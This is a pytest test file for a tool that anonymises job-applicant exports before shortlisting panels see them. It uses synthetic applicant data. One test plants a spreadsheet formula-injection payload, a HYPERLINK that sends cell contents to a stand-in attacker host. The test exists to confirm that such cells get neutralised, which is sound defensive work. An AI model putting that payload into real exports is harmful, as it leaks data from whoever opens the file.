"""ATS exports (CSV, JSON): every column kind, the bad inputs councils send, and scripted use."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from click.testing import CliRunner
from faker import Faker

from blindrec.cli import cli

HEADER = ["applicant_ref", "title", "first_name", "last_name", "email", "phone", "address_line_1", "town",
          "postcode", "date_of_birth", "gender", "ethnicity", "disability", "sexual_orientation", "religion",
          "age_band", "referee_name", "current_employer", "current_job_title", "qualifications",
          "supporting_statement"]
MONITORING = ["gender", "ethnicity", "disability", "sexual_orientation", "religion", "age_band"]
# Hand-made rows: accents, apostrophes, hyphens, possessives, upper case, a town that is a word.
HARD = [
    dict(first_name="Siobhán", last_name="O'Sullivan", town="Reading", religion="Sikh",
         statement="SIOBHÁN O'SULLIVAN here. Siobhán's team in Reading won awards; I enjoy reading. "
                   "As a Sikh I value service. My manager, Tomasz Wróblewski, is my referee.",
         referee="Tomasz Wróblewski"),
    dict(first_name="Mary-Jane", last_name="Okonkwo-Adeyemi", town="Sutton Coldfield", religion="Christian",
         statement="Call me on {phone_squashed} or +44 {phone_national}. I have lived in sutton coldfield "
                   "for years. Mary-Jane's record speaks for itself; Okonkwo's too.",
         referee="Grace Adeyemi"),
]


def _applicants(count: int, seed: int = 7) -> list[dict[str, str]]:
    """Synthetic applicants: Faker's British names and addresses, then the hand-made hard cases."""
    fake = Faker("en_GB")
    fake.seed_instance(seed)
    rows = []
    for i in range(count):
        first, last = fake.first_name(), fake.last_name()
        phone = f"07{fake.numerify('### ######')}"
        row = {
            "applicant_ref": f"APP-{1000 + i}", "title": fake.random_element(["Mr", "Ms", "Dr", "Mrs"]),
            "first_name": first, "last_name": last,
            "email": f"{first.lower()}.{last.lower()}{i}@example.com".replace("'", ""), "phone": phone,
            "address_line_1": fake.street_address().replace("\n", ", "), "town": fake.city(),
            "postcode": fake.postcode(), "date_of_birth": fake.date_of_birth().strftime("%d/%m/%Y"),
            "gender": fake.random_element(["Female", "Male", "Non-binary"]),
            "ethnicity": fake.random_element(["Asian or Asian British - Pakistani", "White - Irish",
                                              "Mixed - White and Black Caribbean"]),
            "disability": fake.random_element(["No known disability", "Yes", "Prefer not to say"]),
            "sexual_orientation": fake.random_element(["Bisexual", "Heterosexual or straight", "Gay man"]),
            "religion": fake.random_element(["Muslim", "No religion", "Jewish"]),
            "age_band": fake.random_element(["25-34", "35-44", "45-54"]),
            "referee_name": f"{fake.first_name()} {fake.last_name()}",
            "current_employer": "Dudley Metropolitan Borough Council",
            "current_job_title": "Planning Officer",
            "qualifications": "MSc Spatial Planning; RTPI chartered membership",
            "supporting_statement": (f"My name is {first} and I manage development management casework. "
                                     f"Email {first.lower()}.{last.lower()}{i}@example.com. I hold RTPI "
                                     f"chartered membership."),
        }
        if i < len(HARD):
            hard = HARD[i]
            digits = re.sub(r"\D", "", phone)
            row.update(first_name=hard["first_name"], last_name=hard["last_name"], town=hard["town"],
                       religion=hard["religion"], referee_name=hard["referee"],
                       supporting_statement=hard["statement"].format(phone_squashed=digits,
                                                                     phone_national=f"{digits[1:5]} {digits[5:]}"))
        rows.append(row)
    return rows


def _write_csv(path, rows, header=HEADER, delimiter=",", encoding="utf-8"):
    with open(path, "w", newline="", encoding=encoding) as handle:
        writer = csv.DictWriter(handle, header, delimiter=delimiter, extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows)
    return path


def _run(*args, stdin=None):
    return CliRunner().invoke(cli, ["anonymise", *map(str, args)], input=stdin)


def _panel(out, name="applications.csv"):
    with open(out / "panel" / name, newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def _hr(out, name):
    with open(out / "hr" / name, newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def _panel_text(out) -> str:
    return "\n".join(p.read_text(encoding="utf-8-sig") for p in (out / "panel").iterdir())


@pytest.fixture(scope="module")
def applicants():
    return _applicants(12)


@pytest.fixture(scope="module")
def export_run(tmp_path_factory, applicants):
    """The synthetic export through the CLI with guessed columns: (result, output folder)."""
    folder = tmp_path_factory.mktemp("ats")
    export = _write_csv(folder / "export.csv", applicants)
    result = _run(export, "--out", folder / "out")
    return result, folder / "out"


# --- what reaches the panel and HR -------------------------------------------------------

def test_export_runs_with_exit_code_zero(export_run):
    result, _ = export_run
    assert result.exit_code == 0, result.output


def test_no_name_email_phone_address_or_dob_reaches_the_panel(export_run, applicants):
    _, out = export_run
    text = _panel_text(out)
    for row in applicants:
        for column in ("first_name", "last_name", "email", "phone", "postcode", "date_of_birth",
                       "address_line_1", "referee_name"):
            for word in re.findall(r"[^\W\d_]{3,}", row[column]) if column.endswith("name") else [row[column]]:
                assert not re.search(rf"(?<!\w){re.escape(word)}(?!\w)", text, re.IGNORECASE), (column, word)
        digits = re.sub(r"\D", "", row["phone"])
        assert digits[-9:] not in re.sub(r"\D", "", text)


def test_names_are_redacted_in_any_case_and_with_possessives(export_run):
    _, out = export_run
    statements = " ".join(r["supporting_statement"] for r in _panel(out))
    assert "[CANDIDATE]'s team" in statements
    assert "[CANDIDATE]'s record" in statements
    assert not re.search(r"siobh|sullivan|okonkwo|adeyemi|mary-jane", statements, re.IGNORECASE)


def test_town_is_redacted_where_capitalised_but_not_as_an_ordinary_word(export_run):
    _, out = export_run
    statements = " ".join(r["supporting_statement"] for r in _panel(out))
    assert "I enjoy reading" in statements
    assert "Reading" not in statements
    assert "sutton coldfield" not in statements.lower()


def test_monitoring_columns_go_to_hr_only(export_run, applicants):
    _, out = export_run
    panel = _panel(out)
    assert not set(MONITORING) & set(panel[0])
    monitoring = _hr(out, "monitoring.csv")
    assert list(monitoring[0]) == ["candidate_id", *MONITORING]
    assert {r["candidate_id"] for r in monitoring} == {r["candidate_id"] for r in panel}
    assert sorted(r["religion"] for r in monitoring) == sorted(a["religion"] for a in applicants)


def test_a_monitoring_answer_repeated_in_free_text_is_redacted(export_run):
    _, out = export_run
    statements = " ".join(r["supporting_statement"] for r in _panel(out))
    # The standard level removes the whole self-description ("As a Sikh"), not only the answer.
    assert "Sikh" not in statements and "[PERSONAL DETAIL] I value service" in statements


def test_panel_keeps_job_columns_and_drops_identifying_ones(export_run):
    _, out = export_run
    panel = _panel(out)
    assert list(panel[0]) == ["candidate_id", "current_employer", "current_job_title", "qualifications",
                              "supporting_statement"]
    assert all(r["current_job_title"] == "Planning Officer" for r in panel)
    assert all("RTPI chartered membership" in r["qualifications"] for r in panel)
    assert sum("development management casework" in r["supporting_statement"] for r in panel) == 10


def test_key_names_each_row_by_export_and_reference(export_run, applicants):
    _, out = export_run
    key = _hr(out, "key.csv")
    assert sorted(r["source"] for r in key) == sorted(f"export.csv#{a['applicant_ref']}" for a in applicants)
    assert {r["candidate_id"] for r in key} == {r["candidate_id"] for r in _panel(out)}
    assert all(re.fullmatch(r"C-[2-9A-HJ-NP-Z]{4}", r["candidate_id"]) for r in key)


def test_panel_rows_are_not_in_export_order(export_run, applicants):
    _, out = export_run
    reference = {r["candidate_id"]: r["source"].split("#")[1] for r in _hr(out, "key.csv")}
    order = [reference[r["candidate_id"]] for r in _panel(out)]
    assert order != [a["applicant_ref"] for a in applicants]  # 1 in 12! of failing by chance


def test_guessed_columns_are_reported_on_stderr_and_in_the_report(export_run):
    result, out = export_run
    assert "columns guessed from their headers" in result.stderr
    report = json.loads((out / "hr" / "report.json").read_text())
    assert any("HR only (monitoring) gender" in w for w in report["table_warnings"])
    assert report["tables"][0]["rows"] == 12


def test_identifiers_are_recorded_for_verification(export_run):
    _, out = export_run
    # ATS rows' identifiers are JSON Lines, one applicant a line, written as the rows stream.
    lines = (out / "hr" / "identifiers-rows.jsonl").read_text(encoding="utf-8").splitlines()
    identifiers = {entry["candidate_id"]: entry["identifiers"] for entry in map(json.loads, lines)}
    assert len(lines) == len(identifiers) == 12
    assert set(identifiers) == {r["candidate_id"] for r in _hr(out, "key.csv")}
    assert any("Siobhán" in ids.get("CANDIDATE_NAME", ()) for ids in identifiers.values())
    assert all("EMAIL_ADDRESS" in ids for ids in identifiers.values())
    assert json.loads((out / "hr" / "identifiers.json").read_text()) == {}  # documents' candidates only


def test_rerun_keeps_candidate_ids(tmp_path, applicants):
    export = _write_csv(tmp_path / "export.csv", applicants[:3])
    _run(export, "--out", tmp_path / "out")
    first = {r["source"]: r["candidate_id"] for r in _hr(tmp_path / "out", "key.csv")}
    _run(export, "--out", tmp_path / "out")
    assert {r["source"]: r["candidate_id"] for r in _hr(tmp_path / "out", "key.csv")} == first


# --- column maps ---------------------------------------------------------------------------

def test_unknown_column_fails_the_export_naming_the_column_and_the_flag(tmp_path, applicants):
    rows = [dict(r, favourite_colour="Blue") for r in applicants[:2]]
    export = _write_csv(tmp_path / "export.csv", rows, HEADER + ["favourite_colour"])
    result = _run(export, "--out", tmp_path / "out")
    assert result.exit_code == 1
    assert "'favourite_colour'" in result.stderr and "--allow-unknown-columns" in result.stderr
    assert not (tmp_path / "out" / "panel" / "applications.csv").exists()


def test_allowed_unknown_columns_are_anonymised_as_free_text(tmp_path, applicants):
    rows = [dict(r, notes=f"Spoke to {r['first_name']} on the phone") for r in applicants[2:4]]
    export = _write_csv(tmp_path / "export.csv", rows, HEADER + ["notes"])
    result = _run(export, "--out", tmp_path / "out", "--allow-unknown-columns")
    assert result.exit_code == 0, result.output
    assert all(r["notes"] == "Spoke to [CANDIDATE] on the phone" for r in _panel(tmp_path / "out"))


def test_unmapped_column_that_looks_like_monitoring_stays_off_the_panel(tmp_path, applicants):
    columns = tmp_path / "columns.yaml"
    columns.write_text("reference: applicant_ref\nfree_text: [supporting_statement]\n")
    export = _write_csv(tmp_path / "export.csv", applicants[3:5])
    result = _run(export, "--out", tmp_path / "out", "--columns", columns, "--allow-unknown-columns")
    assert result.exit_code == 0, result.output
    panel = _panel(tmp_path / "out")
    assert not {"religion", "gender", "email", "last_name"} & set(panel[0])
    assert "'religion' HR only (monitoring)" in result.stderr
    assert list(_hr(tmp_path / "out", "monitoring.csv")[0])[:2] == ["candidate_id", "gender"]


def test_column_map_file_decides_the_roles(tmp_path, applicants):
    columns = tmp_path / "columns.yaml"
    columns.write_text("reference: applicant_ref\nfirst_name: first_name\nlast_name: last_name\nemail: email\n"
                       "phone: phone\naddress: [address_line_1, town]\npostcode: postcode\n"
                       "identifying: [title, date_of_birth, referee_name]\nmonitoring: [gender, ethnicity, "
                       "disability, sexual_orientation, religion, age_band]\nfree_text: [supporting_statement]\n"
                       "drop: [qualifications, current_employer]\npass_through: [current_job_title]\n")
    export = _write_csv(tmp_path / "export.csv", applicants[2:5])
    result = _run(export, "--out", tmp_path / "out", "--columns", columns)
    assert result.exit_code == 0, result.output
    assert list(_panel(tmp_path / "out")[0]) == ["candidate_id", "current_job_title", "supporting_statement"]
    assert "guessed" not in result.stderr


def test_a_mapped_column_missing_from_the_export_is_named(tmp_path, applicants):
    columns = tmp_path / "columns.yaml"
    columns.write_text("reference: applicant_id\nfree_text: [supporting_statement]\n")
    export = _write_csv(tmp_path / "export.csv", applicants[:2])
    result = _run(export, "--out", tmp_path / "out", "--columns", columns, "--allow-unknown-columns")
    assert result.exit_code == 1
    assert "'applicant_id'" in result.stderr and "export.csv" in result.stderr


def test_a_broken_column_map_is_a_usage_error(tmp_path, applicants):
    columns = tmp_path / "columns.yaml"
    columns.write_text("favourite: [a]\n")
    export = _write_csv(tmp_path / "export.csv", applicants[:1])
    result = _run(export, "--out", tmp_path / "out", "--columns", columns)
    assert result.exit_code == 2
    assert "'favourite' is not a column role" in result.output


def test_shipped_example_maps_load():
    from blindrec.settings import rules_dir
    from blindrec.tabular.columns import load_column_map, load_guesses

    load_guesses(rules_dir() / "columns" / "default.yaml")
    for path in (rules_dir() / "columns").glob("example-*.yaml"):
        assert "free_text" in load_column_map(path)


# --- bad input ----------------------------------------------------------------------------

def test_semicolon_and_tab_delimited_exports_are_sniffed(tmp_path, applicants):
    _write_csv(tmp_path / "semi.csv", applicants[:2], delimiter=";")
    _write_csv(tmp_path / "tabs.csv", applicants[2:4], delimiter="\t")
    result = _run(tmp_path / "semi.csv", tmp_path / "tabs.csv", "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert len(_panel(tmp_path / "out", "applications-semi.csv")) == 2
    assert len(_panel(tmp_path / "out", "applications-tabs.csv")) == 2


def test_a_header_without_any_delimiter_is_a_clear_error(tmp_path):
    (tmp_path / "export.csv").write_text("applicant ref first name surname\nA1 Jo Bloggs\n")
    result = _run(tmp_path / "export.csv", "--out", tmp_path / "out")
    assert result.exit_code == 1
    assert "export.csv: found no column separator" in result.stderr


def test_windows_1252_export_is_read_and_said_so(tmp_path, applicants):
    rows = [dict(applicants[3], first_name="Renée", supporting_statement="I’m Renée – RENÉE’s “best” work.")]
    _write_csv(tmp_path / "export.csv", rows, encoding="cp1252")
    result = _run(tmp_path / "export.csv", "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert "Windows-1252" in result.stderr
    assert _panel(tmp_path / "out")[0]["supporting_statement"] == "I’m [CANDIDATE] – [CANDIDATE]’s “best” work."


def test_utf16_tab_export_with_excel_sep_line_is_read(tmp_path, applicants):
    body = io.StringIO()
    writer = csv.DictWriter(body, HEADER, delimiter="\t")
    writer.writeheader()
    writer.writerows(applicants[3:5])
    (tmp_path / "export.txt.csv").write_bytes(("sep=\t\n" + body.getvalue()).encode("utf-16"))
    result = _run(tmp_path / "export.txt.csv", "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert len(_panel(tmp_path / "out")) == 2


def test_quoted_cells_keep_their_embedded_newlines(tmp_path, applicants):
    rows = [dict(a, supporting_statement=f"First paragraph.\nSecond, with {a['last_name']}.\r\nThird.")
            for a in applicants[3:6]]
    _write_csv(tmp_path / "export.csv", rows)
    result = _run(tmp_path / "export.csv", "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    panel = _panel(tmp_path / "out")
    assert len(panel) == 3
    assert all(r["supporting_statement"] == "First paragraph.\nSecond, with [CANDIDATE].\nThird." for r in panel)


def test_ragged_row_is_left_out_with_its_row_number(tmp_path, applicants):
    export = _write_csv(tmp_path / "export.csv", applicants[3:6])
    lines = export.read_text().splitlines()
    lines[2] = ",".join(lines[2].split(",")[:5])  # row 2 lost its last columns
    export.write_text("\n".join(lines) + "\n")
    result = _run(export, "--out", tmp_path / "out")
    assert result.exit_code == 1
    assert "row 2 (line 3, reference APP-1004) has 5 cells where the header has 21" in result.stderr
    assert len(_panel(tmp_path / "out")) == 2


def test_mostly_ragged_export_fails_whole_as_a_wrong_delimiter(tmp_path, applicants):
    export = tmp_path / "export.csv"
    header = ",".join(HEADER)
    export.write_text(header + "\n" + "\n".join(";".join(a.values()) for a in applicants[:4]) + "\n")
    result = _run(export, "--out", tmp_path / "out")
    assert result.exit_code == 1
    assert "check the export's delimiter" in result.stderr
    assert not (tmp_path / "out" / "panel" / "applications.csv").exists()


def test_formula_cells_never_reach_the_panel_executable(tmp_path, applicants):
    rows = [dict(applicants[3], current_job_title='=HYPERLINK("http://evil.example/?"&A1,"Click")',
                 qualifications="+SUM(1,2)", current_employer="@cmd", supporting_statement="-2+3 is my motto")]
    _write_csv(tmp_path / "export.csv", rows)
    result = _run(tmp_path / "export.csv", "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    row = _panel(tmp_path / "out")[0]
    assert row["current_job_title"].startswith("'=HYPERLINK(")
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_empty_and_non_json_exports_are_clear_errors(tmp_path):
    (tmp_path / "empty.csv").write_bytes(b"")
    (tmp_path / "export.json").write_text("applicant_ref,name\n1,Jo\n")
    result = _run(tmp_path / "empty.csv", tmp_path / "export.json", "--out", tmp_path / "out")
    assert result.exit_code == 1
    assert "empty.csv: the export is empty" in result.stderr
    assert "export.json: is not JSON" in result.stderr


# --- JSON, stdin, scripted use -------------------------------------------------------------

def test_json_and_json_lines_exports(tmp_path, applicants):
    (tmp_path / "export.json").write_text(json.dumps(applicants[3:5]))
    (tmp_path / "export.jsonl").write_text("\n".join(json.dumps(a) for a in applicants[5:8]) + "\n")
    result = _run(tmp_path / "export.json", tmp_path / "export.jsonl", "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert len(_panel(tmp_path / "out", "applications-export.csv")) == 2
    assert len(_panel(tmp_path / "out", "applications-export-2.csv")) == 3
    text = _panel_text(tmp_path / "out")
    assert all(a["last_name"] not in text for a in applicants[3:8])


def test_json_object_holding_the_applicant_list(tmp_path, applicants):
    (tmp_path / "export.json").write_text(json.dumps({"exported": "2026-01-05", "applicants": applicants[3:5]}))
    result = _run(tmp_path / "export.json", "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert len(_panel(tmp_path / "out")) == 2


def test_stdin_export_with_panel_on_stdout(tmp_path, applicants):
    data = io.StringIO()
    writer = csv.DictWriter(data, HEADER)
    writer.writeheader()
    writer.writerows(applicants[3:6])
    result = _run("-", "--out", tmp_path / "out", "--panel-stdout", stdin=data.getvalue())
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == 3 and list(rows[0])[0] == "candidate_id"
    assert "ATS row(s)" in result.stderr and "ATS row(s)" not in result.stdout
    sources = {r["source"] for r in _hr(tmp_path / "out", "key.csv")}
    assert sources == {f"stdin#{a['applicant_ref']}" for a in applicants[3:6]}


def test_format_json_writes_the_panel_table_as_json(tmp_path, applicants):
    _write_csv(tmp_path / "export.csv", applicants[3:5])
    result = _run(tmp_path / "export.csv", "--out", tmp_path / "out", "--format", "json", "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["table_rows"] == 2
    rows = json.loads((tmp_path / "out" / "panel" / "applications.json").read_text())
    assert [list(r)[:2] for r in rows] == [["candidate_id", "current_employer"]] * 2


def test_rows_run_across_worker_processes(tmp_path):
    rows = _applicants(110, seed=3)[2:]
    _write_csv(tmp_path / "export.csv", rows)
    result = _run(tmp_path / "export.csv", "--out", tmp_path / "out", "--jobs", "2", "--no-verify")
    assert result.exit_code == 0, result.output
    panel = _panel(tmp_path / "out")
    assert len(panel) == 108
    assert all(r["supporting_statement"].startswith("My name is [CANDIDATE] and") for r in panel)


def test_api_anonymises_an_export(tmp_path, applicants):
    from blindrec.api import RunOptions, anonymise_batch
    from blindrec.settings import load_settings

    export = _write_csv(tmp_path / "export.csv", applicants[3:5])
    result = anonymise_batch([export], tmp_path / "out", load_settings(), RunOptions())
    assert (result.exit_code, result.table_rows, result.failures) == (0, 2, ())


# --- the shuffle ---------------------------------------------------------------------------

def test_sorted_spool_merges_spilled_runs_in_key_order(tmp_path):
    from blindrec.tabular.write import SortedSpool

    spool = SortedSpool(tmp_path, run_rows=3)
    for i, key in enumerate(["k", "c", "x", "a", "q", "b", "z", "m", "d", "e"]):
        spool.add(key, [key, str(i), "line\nbreak"])
    rows = list(spool.sorted_rows())
    spool.close()
    assert [r[0] for r in rows] == sorted("kcxaqbzmde")
    assert all(r[2] == "line\nbreak" for r in rows)


def test_safe_cell_prefixes_formula_starts_only():
    from blindrec.tabular.write import safe_cell

    assert [safe_cell(c) for c in ("=1+1", " =1", "+44", "-x", "@a", "\tx", "ok", "a=b", "")] == \
        ["'=1+1", "' =1", "'+44", "'-x", "'@a", "'\tx", "ok", "a=b", ""]
